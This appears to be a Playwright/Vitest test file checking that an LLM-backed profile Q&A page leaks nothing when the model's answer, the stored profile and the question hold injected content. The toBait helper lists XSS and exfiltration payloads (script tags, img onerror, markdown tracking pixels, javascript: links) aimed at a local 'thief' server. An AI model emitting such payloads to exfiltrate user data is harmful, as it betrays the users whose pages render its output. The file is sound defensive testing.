import type { Browser, Page } from 'playwright-core';
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';
import { hasBrowser, launchBrowser } from '../fakes/browser.ts';
import { openPage } from '../fakes/browser-page.ts';
import { answerOf } from '../fakes/groq/completion-script.ts';
import { startLoopbackServer } from '../fakes/loopback-server.ts';
import type { LoopbackServer } from '../fakes/loopback-server.ts';
import { startProgram } from '../fakes/program.ts';
import type { Program } from '../fakes/program.ts';
import { openServices, SERVED_PROFILE } from '../fakes/services.ts';
import type { Services } from '../fakes/services.ts';

const QUESTION = 'Does Maya build warehouse robots as a staff engineer at Lumenfold Robotics?';

describe.runIf(hasBrowser)('the page in a browser whose every request is watched', () => {
  let services: Services;
  let program: Program;
  let browser: Browser;
  let thief: LoopbackServer;
  const stolen: string[] = [];

  beforeEach(async () => {
    stolen.splice(0);
    [services, browser, thief] = await Promise.all([
      openServices(),
      launchBrowser(),
      startLoopbackServer(
        async (request, response) => {
          stolen.push(request.url ?? '');
          response.writeHead(200, { 'access-control-allow-origin': '*' }).end();
        },
        () => undefined,
      ),
    ]);
  });

  afterEach(async () => {
    await browser.close();
    await program[Symbol.asyncDispose]();
    await thief.close();
    await services[Symbol.asyncDispose]();
  });

  const start = async (summary: string): Promise<void> => {
    const experience = SERVED_PROFILE.experience.map((job) => ({ ...job, summary }));
    await services.write('digitaltwin.json', JSON.stringify({ ...SERVED_PROFILE, experience }));
    program = await startProgram({ env: services.env, folder: services.folder });
  };

  test('sends nothing anywhere, whatever the model writes and the files hold', async () => {
    const bait = toBait(thief.url);
    services.groq.always(answerOf(`Maya builds warehouse robots at Lumenfold Robotics [1].\n\n${bait}`));
    await start(`Warehouse robots. ${bait.replaceAll('\n', ' ')}`);

    const asked = await askAndOpenAll(browser, program.url, `${QUESTION} ${bait}`.slice(0, 1500));

    expect(asked.shown).toContain('warehouse robots');
    expect(asked.shown).toContain('<img');
    expect(asked.foreign).toEqual([]);
    expect(asked.own.filter((path) => !/^(GET \/[\w./-]*|POST \/api\/ask)$/.test(path))).toEqual([]);
    expect(stolen).toEqual([]);
    expect(asked.live).toBe(0);
    expect(asked.alerts).toBe(0);
  });

  test('cannot send anything anywhere, even if something ran in it', async () => {
    await start('Warehouse robots.');
    const { page } = await openPage(browser, program.url);
    const address = JSON.stringify(`${thief.url}/script`);

    const outcome = await page.evaluate(
      `fetch(${address}).then(() => 'sent', () => 'refused').then((said) => {
        const image = new Image();
        image.src = ${address};
        navigator.sendBeacon(${address}, 'x');
        return new Promise((resolve) => { image.onerror = () => resolve(said); image.onload = () => resolve('sent'); });
      })`,
    );

    expect(outcome).toBe('refused');
    expect(stolen).toEqual([]);
  });
});

/** Whatever makes a browser ask another host, or run something. */
function toBait(thief: string): string {
  const address = (name: string): string => `${thief}/${name}`;
  return [
    `<img src="${address('img')}" onerror="alert(1)"><script src="${address('script')}"></script>`,
    `<iframe src="${address('frame')}"></iframe><object data="${address('object')}"></object>`,
    `<link rel="stylesheet" href="${address('style')}"><style>@import url(${address('import')})</style>`,
    `<meta http-equiv="refresh" content="0;url=${address('refresh')}"><base href="${thief}/">`,
    `<form action="${address('form')}"><input autofocus onfocus="alert(2)"></form><svg onload="alert(3)">`,
    `![pixel](${address('markdown')}) [![nested](${address('nested')})](${address('link')})`,
    `[run](javascript:alert(4)) ![data](data:image/svg+xml,<svg/onload=alert(5)>) [ref]: ${address('reference')}`,
    `<video poster="${address('poster')}" src="${address('video')}" autoplay></video>`,
    `<p style="background:url(${address('background')})">&lt;img src=${address('entity')}&gt;`,
  ].join('\n');
}

interface Asked {
  readonly shown: string;
  readonly own: readonly string[];
  readonly foreign: readonly string[];
  /** Elements that the bait would have made. */
  readonly live: number;
  readonly alerts: number;
}

async function askAndOpenAll(browser: Browser, url: string, question: string): Promise<Asked> {
  const { page } = await openPage(browser, url);
  const own: string[] = [];
  const foreign: string[] = [];
  let alerts = 0;
  // The context's, so that nothing is missed that a frame or a new tab asks for.
  page.context().on('request', (request) => {
    const { origin, pathname } = new URL(request.url());
    if (origin === url) own.push(`${request.method()} ${pathname}`);
    else foreign.push(request.url());
  });
  page.on('dialog', (dialog) => {
    alerts += 1;
    void dialog.dismiss();
  });
  await page.reload();
  await page.getByLabel('Your question').fill(question);
  await page.keyboard.press('Enter');
  await page.getByRole('button', { name: 'Ask again' }).waitFor({ timeout: 60_000 });
  for (const summary of await page.locator('summary').all()) await summary.click();
  const shown = await page.locator('main').innerText();
  const live = await countLive(page);
  await page.reload();
  await vi.waitUntil(async () => (await page.locator('main').innerText()).length > 0, { timeout: 30_000 });
  return { shown, own, foreign, live: live + (await countLive(page)), alerts };
}

function countLive(page: Page): Promise<number> {
  const made = 'main img, main iframe, main object, main video, main style, main meta, main base, main svg[onload]';
  return page.locator(made).count();
}
